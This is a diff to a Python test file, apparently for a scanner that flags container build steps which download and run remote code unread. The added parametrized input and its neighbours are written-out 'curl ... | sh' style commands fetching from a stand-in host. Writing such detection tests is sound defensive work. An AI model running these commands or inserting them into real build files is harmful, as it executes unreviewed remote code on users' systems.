@@ -143,6 +143,7 @@ def test_sees_a_download_that_runs_unread(step: str) -> None:
         "/bin/sh -c # curl https://e.org/a | sh",
         '/bin/sh -c #(nop)  CMD ["/bin/sh" "-c" "curl https://e.org/a | sh"]',
         "LABEL usage=curl https://e.org/a | sh",
+        'CMD sh -c "$(curl https://e.org/a)"',
         "/bin/sh -c git clone https://e.org/a | sh",
     ],
 )
